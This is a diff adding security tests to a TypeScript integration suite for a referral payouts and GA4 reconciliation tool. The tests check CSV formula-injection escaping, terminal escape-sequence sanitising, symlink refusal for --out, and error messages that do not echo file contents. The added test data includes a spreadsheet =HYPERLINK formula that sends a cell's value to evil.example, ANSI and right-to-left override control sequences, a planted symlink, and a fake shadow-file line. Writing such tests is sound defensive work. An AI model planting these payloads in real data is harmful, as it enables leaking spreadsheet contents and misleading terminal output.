@@ -4,7 +4,7 @@
  * under dt=<business day>/ (with a redelivered batch, so lines repeat), rollups through the
  * aggregate consumer, and a GA4 CSV in GA4's own export layout.
  */
-import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, relative } from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -157,7 +157,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     await dynamodb.send(
       new UpdateItemCommand({ TableName: tables.state, Key: marshall(rollupKey(1, 'solare' as never, '2026-11-04' as never)), UpdateExpression: 'ADD qualifiedClicks :one, clicks :one', ExpressionAttributeValues: marshall({ ':one': 1 }) }),
     );
-    const tampered = await payouts('--month', '2026-11', '--out', at('check'), '--check-rollups');
+    const tampered = await payouts('--month', '2026-11', '--out', at('check'), '--check-rollups', '--replace');
     expect(tampered.code).toBe(1);
     expect(tampered.stdout).toMatch(/solare\s+2026-11-04\s+clicks\s+1\s+2/);
     expect(tampered.stdout).toMatch(/solare\s+2026-11-04\s+qualifiedClicks\s+1\s+2/);
@@ -189,6 +189,68 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(summary.vendors.find((v: { code: string }) => v.code === 'puesto').qualifiedClicks).toBe(4);
     expect(readFileSync(at('damaged/statements/solare.html'), 'utf8')).toContain('Draft, not for payment');
   });
+
+  it('a vendor named like a spreadsheet formula or a terminal escape lands as text in statements.csv and on screen', async () => {
+    const hostile = mkdtempSync(join(tmpdir(), 'reftrack-hostile-'));
+    cpSync(root, hostile, { recursive: true });
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"x")';
+    const part = join(hostile, 'events', 'dt=2026-11-15');
+    mkdirSync(part, { recursive: true });
+    const named = (name: string, visitor: string) => ({ ...click({ vendor: 'smallgoods', visitor, at: '2026-11-15T20:00:00.000Z' }), vendorName: name });
+    writeFileSync(join(part, 'hostile.gz'), gzipSync(toExportLine(named(formula, 'h1'))));
+    const run = await reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', hostile, '--month', '2026-11', '--out', at('hostile')]);
+    expect(run.code, run.stderr).toBe(0);
+    const row = readFileSync(at('hostile/statements.csv'), 'utf8').split('\n').find((l) => l.startsWith('smallgoods,'))!;
+    // Quoted per RFC 4180 and prefixed with an apostrophe: a spreadsheet shows it, never runs it.
+    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,1,0.50,0.50,,false,0.00,0.00,0.50,0.00,USD`);
+    expect(readFileSync(at('hostile/statements/smallgoods.html'), 'utf8')).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)');
+
+    // The same vendor renamed with an ANSI clear-screen, a C1 CSI and a right-to-left override.
+    writeFileSync(join(part, 'hostile.gz'), gzipSync(toExportLine(named('Small\u001b[2J\u009b31m\u202eGoods', 'h2'))));
+    const shown = await reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', hostile, '--month', '2026-11', '--out', at('hostile'), '--replace']);
+    expect(shown.code, shown.stderr).toBe(0);
+    expect(readFileSync(at('hostile/statements.csv'), 'utf8')).toContain('smallgoods,Small\u001b[2J\u009b31m\u202eGoods,');
+    const cat = await reftrack(tables, ['exports', 'cat', '--day', '2026-11-15', '--source', hostile]);
+    for (const out of [shown.stdout + shown.stderr, cat.stdout + cat.stderr]) expect(out).not.toMatch(/[\u001b\u009b\u202e]/);
+    // exports cat escapes instead of dropping: the line still parses to the stored name.
+    expect(JSON.parse(cat.stdout.trim()).vendorName).toBe('Small\u001b[2J\u009b31m\u202eGoods');
+  }, 180_000);
+
+  it('--out refuses a non-empty folder and a symlink, and never writes through a planted symlink', async () => {
+    const victim = at('victim.txt');
+    writeFileSync(victim, 'precious\n');
+    mkdirSync(at('planted'));
+    symlinkSync(victim, at('planted/statements.csv'));
+    const refused = await payouts('--month', '2026-11', '--out', at('planted'));
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).toMatch(/--out: .*planted already exists and is not empty; .*--replace/);
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+
+    symlinkSync(at('nov'), at('link-to-nov'));
+    const viaLink = await payouts('--month', '2026-11', '--out', at('link-to-nov'), '--replace');
+    expect(viaLink.code).toBe(2);
+    expect(viaLink.stderr).toMatch(/--out: .*link-to-nov is a symbolic link/);
+
+    // Told to replace: the folder is swapped by rename; the planted link goes with the old folder.
+    const replaced = await payouts('--month', '2026-11', '--out', at('planted'), '--replace');
+    expect(replaced.code, replaced.stderr).toBe(0);
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+    expect(lstatSync(at('planted/statements.csv')).isSymbolicLink()).toBe(false);
+    expect(files(at('planted'))).toEqual(files(at('nov')));
+    expect(readdirSync(work).filter((n) => n.includes('.tmp-') || n.includes('.old-'))).toEqual([]);
+
+    mkdirSync(at('empty'));
+    expect((await payouts('--month', '2026-11', '--out', at('empty'))).code).toBe(0);
+    expect(existsSync(at('empty/summary.json'))).toBe(true);
+  }, 180_000);
+
+  it('a rules file that is not JSON is reported without echoing its bytes', async () => {
+    writeFileSync(at('shadow'), 'root:$y$j9T$SECRETSALT$SECRETHASH:19700:0:99999:7:::\n');
+    const bad = await reftrack(tables, ['payouts', '--rules', at('shadow'), '--exports', root, '--month', '2026-11', '--out', at('never2')]);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain(`${at('shadow')}: not valid JSON`);
+    expect(bad.stderr).not.toMatch(/SECRET|\$y\$/);
+  }, 180_000);
 
   it('a month without exports says so; bad arguments and bad rules exit 2', async () => {
     const empty = await payouts('--month', '2026-06', '--out', at('june'));
